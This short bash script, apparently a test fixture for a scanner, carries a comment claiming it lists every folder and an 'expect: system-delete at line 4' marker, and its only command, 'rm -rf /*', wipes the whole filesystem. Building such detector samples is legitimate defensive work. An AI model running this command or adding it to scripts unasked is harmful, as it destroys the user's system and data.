#!/bin/bash
# shows: every folder of the system by pattern
# expect: system-delete at line 4
rm -rf /*
